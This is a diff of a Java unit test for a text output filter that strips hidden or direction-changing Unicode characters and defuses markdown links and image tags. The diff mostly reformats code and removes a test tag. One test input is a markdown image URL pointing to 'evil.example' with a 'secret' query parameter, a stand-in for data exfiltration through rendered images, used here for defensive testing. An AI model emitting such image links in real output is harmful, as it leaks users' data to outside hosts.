@@ -8,13 +8,11 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Set;
-import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
-@Tag("SE-7")
 class TextFilterTest {
 
   private static final OutputRules RULES = new OutputRules(true, Set.of("help.example"));
@@ -87,10 +85,9 @@ class TextFilterTest {
 
   @Test
   void charactersThatHideOrTurnOthersAreDropped() {
-    assertEquals(
-        "abcdefg",
-        RULES.of("a\u202Eb\u2066c\u200Fd\uDB40\uDC41e\u0007f\uFEFFg"));
-    String family = "\uD83D\uDC68\u200D\uD83D\uDC69 \u0645\u06CC\u200C\u062E \uD83D\uDE00\uDB40\uDD00";
+    assertEquals("abcdefg", RULES.of("a\u202Eb\u2066c\u200Fd\uDB40\uDC41e\u0007f\uFEFFg"));
+    String family =
+        "\uD83D\uDC68\u200D\uD83D\uDC69 \u0645\u06CC\u200C\u062E \uD83D\uDE00\uDB40\uDD00";
     assertEquals(family, RULES.of(family));
     assertEquals("a\tb\r\nc", RULES.of("a\tb\r\nc"));
   }
@@ -103,7 +100,8 @@ class TextFilterTest {
   @Test
   void whatIsTooLongToBeHeldIsBroken() {
     String text = "x".repeat(5_000);
-    assertEquals("[" + text + "] (https://e.example)", RULES.of("[" + text + "](https://e.example)"));
+    assertEquals(
+        "[" + text + "] (https://e.example)", RULES.of("[" + text + "](https://e.example)"));
     assertEquals("[a] (" + text + ")", RULES.of("[a](" + text + ")"));
     assertEquals("< img " + text + ">", RULES.of("<img " + text + ">"));
   }
@@ -128,7 +126,12 @@ class TextFilterTest {
 
   @ParameterizedTest
   @ValueSource(
-      strings = {"![x](https://evil.example/?d=secret", "[a](https://evil.example", "<img src=x", "<b"})
+      strings = {
+        "![x](https://evil.example/?d=secret",
+        "[a](https://evil.example",
+        "<img src=x",
+        "<b"
+      })
   void whatIsNotCompleteAtTheEndDoesNothing(String text) {
     String left = String.join("", pieces(text));
     assertTrue(left.contains("] (") || left.startsWith("< "), left);
